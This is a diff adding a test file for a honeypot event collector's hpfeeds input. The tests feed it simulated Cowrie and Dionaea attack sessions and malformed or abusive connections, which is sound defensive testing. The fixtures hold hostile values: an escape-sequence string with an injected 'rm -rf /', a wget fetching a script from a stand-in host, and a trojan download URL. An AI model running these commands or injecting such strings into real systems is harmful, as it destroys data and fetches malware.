@@ -1,0 +1,328 @@
+// inputs.hpfeeds: Cowrie and Dionaea publish to `apiary start` as to MHN's broker, through a Python
+// publisher written from the wire format their own clients use (test/fixtures/hpfeeds_publish.py),
+// and what they publish is stored as events; wrong secrets, foreign idents, channels not granted,
+// subscriptions and a broken stream are refused, and the input keeps serving.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { connect, type Socket } from 'node:net';
+import { writeFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { loadOrCreateCertificate } from '../../src/sensors/http/tls-cert.js';
+import { MAX_UNAUTHENTICATED_PER_SOURCE, REFUSED_LINGER_MS } from '../../src/collector/hpfeeds-input.js';
+import { HpfeedsDecoder, MAX_MESSAGE_BYTES, OP_AUTH } from '../../src/wire/hpfeeds.js';
+import { collectorSetup, sensorSetup, type Child } from '../helpers/honeynet.js';
+import { runCli, startApiaryProcess, tempDir, waitFor, writeConfig, type ApiaryProcess } from '../helpers/apiary-process.js';
+
+const PUBLISHER = resolve('test/fixtures/hpfeeds_publish.py');
+
+type Step = ['publish', string, string, unknown] | ['subscribe', string, string] | ['raw', string];
+
+/** Runs the Python publisher; resolves with the broker's messages and whether it closed the connection. */
+function publish(port: number, ident: string, secret: string, steps: Step[], caFile?: string): Promise<{ info: string; replies: { op: number; text: string }[]; closed: boolean }> {
+  return new Promise((resolveRun, reject) => {
+    const p = spawn('/usr/bin/python3', [PUBLISHER, String(port), ident, secret, ...(caFile ? [caFile] : [])], { stdio: ['pipe', 'pipe', 'pipe'] });
+    let out = '';
+    let err = '';
+    p.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
+    p.stderr.setEncoding('utf8').on('data', (d: string) => (err += d));
+    p.on('error', reject);
+    p.on('exit', (code) => {
+      if (code !== 0) return reject(new Error(`publisher exited ${code}: ${err}`));
+      const lines = out.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+      resolveRun({
+        info: String(lines[0]!.info),
+        replies: lines.filter((l) => 'op' in l) as { op: number; text: string }[],
+        closed: lines[lines.length - 1]!.closed === true,
+      });
+    });
+    p.stdin.end(JSON.stringify(steps));
+  });
+}
+
+const HOSTILE = 'x\u001b[2J\u0007"\'; rm -rf / #\u00e9';
+
+const COWRIE_SESSION = {
+  session: 'a1b2c3d4e5f6',
+  startTime: '2024-03-01T10:00:00.123456Z',
+  endTime: '2024-03-01T10:02:30.000000Z',
+  peerIP: '203.0.113.50',
+  peerPort: 51234,
+  hostIP: '192.0.2.10',
+  hostPort: 22,
+  loggedin: ['root', 'toor'],
+  credentials: [['root', '123456'], ['admin', HOSTILE]],
+  commands: ['uname -a', 'wget http://198.51.100.9/x.sh', HOSTILE],
+  unknownCommands: [HOSTILE],
+  urls: ['http://198.51.100.9/x.sh'],
+  version: 'SSH-2.0-Go',
+  ttylog: null,
+  hashes: ['a'.repeat(64)],
+  protocol: 'ssh',
+};
+
+const SRVSVC = '4b324fc8-1670-01d3-1278-5a47bf6ee188';
+
+let apiary: ApiaryProcess | undefined;
+let port = 0;
+
+async function sensorEvents(sensor: string): Promise<Record<string, unknown>[]> {
+  return (await apiary!.events()).filter((e) => e.sensor === sensor);
+}
+
+const ENVELOPE = new Set(['id', 'time', 'type', 'sensor', 'session', 'protocol', 'src_ip', 'src_port', 'dst_ip', 'dst_port']);
+/** The payload of an event as `apiary events --json` prints it (payload fields beside the envelope). */
+function payloadOf(e: Record<string, unknown> | undefined): Record<string, unknown> {
+  assert.ok(e);
+  return Object.fromEntries(Object.entries(e).filter(([k]) => !ENVELOPE.has(k)));
+}
+
+test.before(async () => {
+  apiary = await startApiaryProcess({
+    sensor: 'central',
+    services: {},
+    inputs: {
+      hpfeeds: {
+        listen: ['127.0.0.1:0'],
+        feeds: [
+          { ident: 'cowrie-dmz', secret: 'cowrie-secret', sensor: 'cowrie-dmz' },
+          { ident: 'dionaea-lab', secret: 'dionaea-secret', channels: ['dionaea.connections', 'dionaea.capture', 'dionaea.dcerpcrequests'] },
+        ],
+      },
+    },
+  });
+  port = apiary.ports.hpfeeds!;
+  assert.ok(port > 0, apiary.stdout());
+});
+
+test.after(async () => {
+  await apiary?.stop();
+});
+
+test("Cowrie's session summary becomes the session's events, attacker strings kept exactly", async () => {
+  const run = await publish(port, 'cowrie-dmz', 'cowrie-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', COWRIE_SESSION]]);
+  assert.equal(run.info, 'apiary');
+  assert.deepEqual(run.replies, []);
+  assert.equal(run.closed, false);
+  await waitFor(async () => (await sensorEvents('cowrie-dmz')).length >= 10);
+  const events = (await sensorEvents('cowrie-dmz')).sort((a, b) => String(a.id).localeCompare(String(b.id)));
+  assert.deepEqual(
+    events.map((e) => e.type),
+    ['connection.open', 'client.version', 'auth.attempt', 'auth.attempt', 'auth.attempt', 'command.input', 'command.input', 'command.input', 'file.download', 'connection.close'],
+  );
+  assert.ok(events.every((e) => e.src_ip === '203.0.113.50' && e.dst_port === 22 && e.protocol === 'ssh' && e.session === events[0]!.session));
+  assert.equal(events[0]!.time, '2024-03-01T10:00:00.123Z');
+  const auths = events.filter((e) => e.type === 'auth.attempt').map(payloadOf);
+  assert.deepEqual(auths, [
+    { method: 'password', username: 'root', password: '123456', success: false },
+    { method: 'password', username: 'admin', password: HOSTILE, success: false },
+    { method: 'password', username: 'root', password: 'toor', success: true },
+  ]);
+  const commands = events.filter((e) => e.type === 'command.input').map(payloadOf);
+  assert.deepEqual(commands, [{ input: 'uname -a', known: true }, { input: 'wget http://198.51.100.9/x.sh', known: true }, { input: HOSTILE, known: false }]);
+  assert.deepEqual(payloadOf(events.find((e) => e.type === 'file.download')), { url: 'http://198.51.100.9/x.sh', sha256: 'a'.repeat(64), outcome: 'stored' });
+  const close = events.find((e) => e.type === 'connection.close')!;
+  assert.equal(payloadOf(close).duration_ms, 149_877);
+  assert.equal(close.time, '2024-03-01T10:02:30.000Z');
+});
+
+test("Dionaea's connection, MS08-067 request and capture share one session under the feed's sensor", async () => {
+  const started = Date.now() - 1000;
+  const conn = { connection_type: 'accept', connection_transport: 'tcp', connection_protocol: 'smbd', remote_host: '10.9.8.7', remote_port: 49152, remote_hostname: '', local_host: '192.0.2.20', local_port: 445 };
+  const rpc = { uuid: SRVSVC, opnum: 31, saddr: '10.9.8.7', sport: '49152', daddr: '192.0.2.20', dport: '445' };
+  const capture = { time: '2024-03-02 08:15:00.500000 UTC +0000', saddr: '10.9.8.7', sport: '49152', daddr: '192.0.2.20', dport: '445', md5: 'B'.repeat(32), sha512: 'c'.repeat(128), url: 'http://198.51.100.77/trojan.exe' };
+  const run = await publish(port, 'dionaea-lab', 'dionaea-secret', [
+    ['publish', 'dionaea-lab', 'dionaea.connections', { ...conn, connection_type: 'listen' }],
+    ['publish', 'dionaea-lab', 'dionaea.connections', conn],
+    ['publish', 'dionaea-lab', 'dionaea.dcerpcrequests', rpc],
+    ['publish', 'dionaea-lab', 'dionaea.capture', capture],
+  ]);
+  assert.deepEqual(run.replies, []);
+  // The sensor name is the ident when the feed names none.
+  await waitFor(async () => (await sensorEvents('dionaea-lab')).length >= 4);
+  const events = await sensorEvents('dionaea-lab');
+  assert.deepEqual(events.map((e) => e.type).sort(), ['connection.open', 'exploit.attempt', 'file.download', 'rpc.request']);
+  assert.equal(new Set(events.map((e) => e.session)).size, 1);
+  assert.ok(events.every((e) => e.src_ip === '10.9.8.7' && e.dst_port === 445 && e.protocol === 'smb'));
+  assert.deepEqual(payloadOf(events.find((e) => e.type === 'exploit.attempt')), { name: 'MS08-067', cve: 'CVE-2008-4250', detail: 'SRVSVC NetPathCanonicalize (opnum 31)' });
+  assert.deepEqual(payloadOf(events.find((e) => e.type === 'rpc.request')), { interface_uuid: SRVSVC, opnum: 31, interface: 'srvsvc', operation: 'NetPathCanonicalize', vuln: 'MS08-067' });
+  const dl = events.find((e) => e.type === 'file.download')!;
+  assert.deepEqual(payloadOf(dl), { url: 'http://198.51.100.77/trojan.exe', md5: 'b'.repeat(32), outcome: 'stored' });
+  // Dionaea's capture time is its local time labelled GMT: the arrival time is kept instead.
+  assert.ok(Date.parse(String(dl.time)) >= started, String(dl.time));
+});
+
+test('wrong secrets, foreign idents, channels not granted and subscriptions are refused; a broken stream is closed', async () => {
+  const seen = new Set((await apiary!.events()).map((e) => e.id));
+  const wrong = await publish(port, 'cowrie-dmz', 'not-the-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'bad1' }]]);
+  assert.deepEqual(wrong.replies, [{ op: 0, text: 'Authentication failed for cowrie-dmz' }]);
+  assert.equal(wrong.closed, true);
+  const unknown = await publish(port, 'nobody', 'x', []);
+  assert.deepEqual(unknown.replies, [{ op: 0, text: 'Authentication failed for nobody' }]);
+
+  // A channel not granted and a subscription: an ERROR and the connection closed, as the reference broker does.
+  const denied = await publish(port, 'dionaea-lab', 'dionaea-secret', [['publish', 'dionaea-lab', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'bad2' }]]);
+  assert.deepEqual(denied.replies, [{ op: 0, text: 'Authkey not allowed to pub here. ident=dionaea-lab, chan=cowrie.sessions' }]);
+  assert.equal(denied.closed, true);
+  const sub = await publish(port, 'dionaea-lab', 'dionaea-secret', [['subscribe', 'dionaea-lab', 'cowrie.sessions']]);
+  assert.deepEqual(sub.replies, [{ op: 0, text: 'Authkey not allowed to sub here. ident=dionaea-lab, chan=cowrie.sessions' }]);
+  assert.equal(sub.closed, true);
+  // Dionaea sends each unique file on its own channel after the capture message: taken, not kept, no error.
+  const binary = await publish(port, 'dionaea-lab', 'dionaea-secret', [['publish', 'dionaea-lab', 'mwbinary.dionaea.sensorunique', 'MZ\u0090\u0000 not kept']]);
+  assert.deepEqual([binary.replies, binary.closed], [[], false]);
+  // Names a feed controls that are also Object.prototype's: dropped or mapped, never stored as functions.
+  await publish(port, 'dionaea-lab', 'dionaea-secret', [
+    ['publish', 'dionaea-lab', 'dionaea.connections', { connection_type: 'accept', connection_transport: 'tcp', connection_protocol: 'toString', remote_host: '10.9.8.6', remote_port: 1, local_host: '192.0.2.20', local_port: 445 }],
+    ['publish', 'dionaea-lab', 'dionaea.dcerpcrequests', { uuid: 'constructor', opnum: 1, saddr: '10.9.8.6', sport: '1', daddr: '192.0.2.20', dport: '445' }],
+    ['publish', 'dionaea-lab', 'dionaea.dcerpcrequests', { uuid: '__proto__', opnum: 0, saddr: '10.9.8.6', sport: '1', daddr: '192.0.2.20', dport: '445' }],
+  ]);
+  await waitFor(async () => (await apiary!.events()).filter((e) => e.src_ip === '10.9.8.6').length === 3);
+  const proto = (await apiary!.events()).filter((e) => e.src_ip === '10.9.8.6');
+  assert.deepEqual(proto.map((e) => [e.type, e.protocol]).sort(), [['connection.open', 'toString'], ['rpc.request', 'toString'], ['rpc.request', 'toString']]);
+  assert.deepEqual(proto.filter((e) => e.type === 'rpc.request').map((e) => e.interface_uuid).sort(), ['__proto__', 'constructor']);
+  for (const e of proto) seen.add(e.id);
+  const before2 = seen.size;
+
+  const spoof = await publish(port, 'dionaea-lab', 'dionaea-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'bad3' }]]);
+  assert.deepEqual(spoof.replies, [{ op: 0, text: 'Invalid authkey in message, ident=cowrie-dmz' }]);
+  assert.equal(spoof.closed, true);
+
+  // A header announcing 2 GB, then garbage: closed with the reason, nothing stored.
+  const broken = await publish(port, 'cowrie-dmz', 'cowrie-secret', [['raw', `7fffffff03${'00'.repeat(64)}`]]);
+  assert.equal(broken.closed, true);
+  assert.match(broken.replies[0]!.text, /message of 2147483647 bytes for opcode 3/);
+  // Not JSON, and JSON that is not a session: dropped, the connection kept.
+  const junk = await publish(port, 'cowrie-dmz', 'cowrie-secret', [
+    ['publish', 'cowrie-dmz', 'cowrie.sessions', '{"session": '],
+    ['publish', 'cowrie-dmz', 'cowrie.sessions', [1, 2, 3]],
+    ['publish', 'cowrie-dmz', 'cowrie.sessions', { session: 'x' }],
+  ]);
+  assert.deepEqual(junk.replies, []);
+  assert.equal(junk.closed, false);
+
+  // The input still serves: a good session after all that is stored.
+  await publish(port, 'cowrie-dmz', 'cowrie-secret', [['publish', 'cowrie-dmz', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'after', credentials: [], commands: [], urls: [], hashes: [], loggedin: null, version: null, unknownCommands: [] }]]);
+  await waitFor(async () => (await apiary!.events()).length >= before2 + 2);
+  await new Promise((r) => setTimeout(r, 300));
+  const added = (await apiary!.events()).filter((e) => !seen.has(e.id)).sort((a, b) => String(a.id).localeCompare(String(b.id)));
+  assert.deepEqual(added.map((e) => [e.type, e.sensor, e.time]), [
+    ['connection.open', 'cowrie-dmz', '2024-03-01T10:00:00.123Z'],
+    ['connection.close', 'cowrie-dmz', '2024-03-01T10:02:30.000Z'],
+  ]);
+});
+
+test('a bad hpfeeds config stops start-up with the key named: a repeated ident, an unreadable TLS file', async () => {
+  const dir = tempDir();
+  const twice = writeConfig(dir, { services: {}, inputs: { hpfeeds: { listen: ['127.0.0.1:0'], feeds: [{ ident: 'a', secret: 'x' }, { ident: 'a', secret: 'y' }] } } });
+  const r1 = await runCli(['config', 'check', twice], { allowFail: true });
+  assert.equal(r1.code, 2);
+  assert.match(r1.stderr, /^apiary: APIARY_CONFIG_INVALID: .*inputs\.hpfeeds\.feeds\[1\]\.ident: ident "a" is listed twice/);
+  const tlsDir = tempDir();
+  writeFileSync(join(tlsDir, 'key.pem'), 'not a key');
+  const noCert = writeConfig(tlsDir, { data_dir: join(tlsDir, 'data'), services: {}, inputs: { hpfeeds: { listen: ['127.0.0.1:0'], tls: { cert: join(tlsDir, 'missing.pem'), key: join(tlsDir, 'key.pem') }, feeds: [{ ident: 'a', secret: 'x' }] } } });
+  const r2 = await runCli(['start', '--config', noCert], { allowFail: true });
+  assert.notEqual(r2.code, 0);
+  assert.match(r2.stderr, /APIARY_TLS_CERT: inputs\.hpfeeds\.tls\.cert: cannot read .*missing\.pem \(ENOENT\)/);
+  assert.doesNotMatch(r2.stderr, /\n\s+at /, 'no stack trace');
+});
+
+test('over TLS with the operator\'s certificate, a publisher that checks it is served; a plain one is not', async () => {
+  const dir = tempDir();
+  const tls = await loadOrCreateCertificate(join(dir, 'tls'), '127.0.0.1');
+  const tlsApiary = await startApiaryProcess(
+    { sensor: 'central', services: {}, inputs: { hpfeeds: { listen: ['127.0.0.1:0'], tls: { cert: join(dir, 'tls', 'server.crt'), key: join(dir, 'tls', 'server.key') }, feeds: [{ ident: 'cowrie-tls', secret: 's3' }] } } },
+    { dir },
+  );
+  try {
+    assert.ok(tls.cert.includes('BEGIN CERTIFICATE'));
+    const tlsPort = tlsApiary.ports.hpfeeds!;
+    const run = await publish(tlsPort, 'cowrie-tls', 's3', [['publish', 'cowrie-tls', 'cowrie.sessions', { ...COWRIE_SESSION, credentials: [], commands: [], urls: [], hashes: [], unknownCommands: [] }]], join(dir, 'tls', 'server.crt'));
+    assert.equal(run.info, 'apiary');
+    await waitFor(async () => (await tlsApiary.events()).some((e) => e.sensor === 'cowrie-tls' && e.type === 'auth.attempt'));
+    // A plain-TCP publisher gets no INFO from a TLS listener.
+    await assert.rejects(publish(tlsPort, 'cowrie-tls', 's3', []));
+    // Raw connections that never start the handshake count against the limits like any other.
+    const idle = await Promise.all(Array.from({ length: MAX_UNAUTHENTICATED_PER_SOURCE }, () => raw(tlsPort, undefined, 800)));
+    assert.ok(idle.every((c) => !c.closed));
+    assert.equal((await raw(tlsPort, undefined, 800)).closed, true);
+    // Stopping does not wait for them.
+    const t0 = Date.now();
+    assert.equal(await tlsApiary.stop(), 0);
+    assert.ok(Date.now() - t0 < 8000, `stopped in ${Date.now() - t0} ms`);
+    for (const c of idle) c.socket.destroy();
+  } finally {
+    await tlsApiary.stop();
+  }
+});
+
+/** A raw connection: resolves with what the broker sent before closing (or after MS), and whether it closed. */
+function raw(p: number, send: Buffer | undefined, ms = 1500, halfOpen = false): Promise<{ data: Buffer; closed: boolean; socket: Socket }> {
+  return new Promise((done) => {
+    // halfOpen: a peer that never closes its side when the broker closes its own.
+    const socket = connect({ port: p, host: '127.0.0.1', allowHalfOpen: halfOpen });
+    const got: Buffer[] = [];
+    let closed = false;
+    socket.on('data', (d) => got.push(d));
+    socket.on('error', () => {});
+    socket.on('close', () => {
+      closed = true;
+      done({ data: Buffer.concat(got), closed, socket });
+    });
+    socket.on('connect', () => send && socket.write(send));
+    setTimeout(() => !closed && done({ data: Buffer.concat(got), closed, socket }), ms);
+  });
+}
+
+test('before AUTH nothing bigger than an AUTH is buffered, and one address holds few unauthenticated connections', async () => {
+  // A PUBLISH header announcing 100 kB before any AUTH: refused at the header.
+  const head = Buffer.alloc(5);
+  head.writeUInt32BE(100_000, 0);
+  head[4] = 3;
+  const early = await raw(port, head);
+  assert.equal(early.closed, true);
+  const replies = new HpfeedsDecoder().push(early.data).map((d) => (d.ok ? d.message : assert.fail(d.reason)));
+  assert.deepEqual(replies.map((m) => m.op), [1, 0]);
+  assert.deepEqual(replies[1], { op: 0, text: `message of 100000 bytes for opcode 3 (limit ${MAX_MESSAGE_BYTES[OP_AUTH]})` });
+  // Idle connections that never authenticate: the first few get INFO, the next is closed at once.
+  const idle = await Promise.all(Array.from({ length: MAX_UNAUTHENTICATED_PER_SOURCE }, () => raw(port, undefined, 800)));
+  assert.ok(idle.every((c) => !c.closed && c.data[4] === 1));
+  const extra = await raw(port, undefined, 800);
+  assert.equal(extra.closed, true);
+  assert.equal(extra.data.length, 0);
+  for (const c of idle) c.socket.destroy();
+  // Once they are gone, the address is served again.
+  await waitFor(async () => !(await raw(port, undefined, 300)).closed);
+  // Refused peers that keep their side open do not keep their slots: cut after REFUSED_LINGER_MS.
+  const stubborn = await Promise.all(Array.from({ length: MAX_UNAUTHENTICATED_PER_SOURCE }, () => raw(port, Buffer.from('GET / HTTP/1.0\r\n\r\n'), 300, true)));
+  await new Promise((r) => setTimeout(r, REFUSED_LINGER_MS + 500));
+  const after = await raw(port, undefined, 500);
+  assert.equal(after.closed, false);
+  assert.equal(after.data[4], 1, 'INFO');
+  for (const c of [...stubborn, after]) c.socket.destroy();
+});
+
+test('under apiary sensor, what feeds publish is shipped to the collector under the sensor\'s own name', async () => {
+  const children: Child[] = [];
+  try {
+    const c = await collectorSetup();
+    children.push(await c.start());
+    const setup = await sensorSetup('edge-1', `https://127.0.0.1:${c.port}`, await c.token('edge-1'), {
+      services: {},
+      extra: { inputs: { hpfeeds: { listen: ['127.0.0.1:0'], feeds: [{ ident: 'cowrie-edge', secret: 'e1', sensor: 'ignored-when-shipped' }] } } },
+    });
+    const sensor = await setup.start();
+    children.push(sensor);
+    const run = await publish(sensor.ports.hpfeeds!, 'cowrie-edge', 'e1', [['publish', 'cowrie-edge', 'cowrie.sessions', { ...COWRIE_SESSION, session: 'shipped' }]]);
+    assert.deepEqual(run.replies, []);
+    const stored = async (): Promise<Record<string, unknown>[]> => {
+      const { stdout } = await runCli(['events', '--config', c.configPath, '--json']);
+      return stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
+    };
+    await waitFor(async () => (await stored()).length >= 10, 20_000);
+    const events = await stored();
+    assert.equal(events.length, 10);
+    assert.ok(events.every((e) => e.sensor === 'edge-1'), JSON.stringify(events.map((e) => e.sensor)));
+  } finally {
+    for (const ch of children) await ch.stop();
+  }
+});
